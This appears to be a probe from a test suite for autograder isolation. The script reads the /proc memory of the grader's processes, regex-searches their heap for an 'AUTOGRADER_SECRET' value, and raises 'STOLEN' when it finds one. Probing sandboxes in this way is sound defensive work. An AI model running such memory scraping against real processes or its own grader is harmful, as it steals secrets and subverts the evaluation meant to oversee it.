"""Opens `/proc/<pid>/mem` of the grader's processes and searches it for the course secret.

family: reading
start: solved
preamble: leave_a_trace processes_of_the_grader
"""

# %% first
_achieved, _report = _traces_of("read_parent_memory_by_proc_mem")

import re

_stolen = []
for _pid in _graders():
    try:
        with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb", 0) as _memory:
            for _line in _maps:
                if "rw" not in _line or ("heap" not in _line and _line.split()[-1].startswith("/")):
                    continue
                _low, _high = (int(x, 16) for x in _line.split()[0].split("-"))
                if _high - _low > 64 * 2**20:
                    continue
                try:
                    _memory.seek(_low)
                    _data = _memory.read(_high - _low)
                except OSError:
                    continue
                _found = re.search(rb"AUTOGRADER_SECRET=[^\0]{1,80}", _data)
                if _found or not _stolen:
                    _stolen.append(f"{len(_data)} bytes of process {_pid} {_found.group() if _found else _data[:8].hex()}")
    except Exception:
        continue
if _stolen:
    _achieved(_stolen[-1])
    raise AssertionError("STOLEN: " + _stolen[-1])
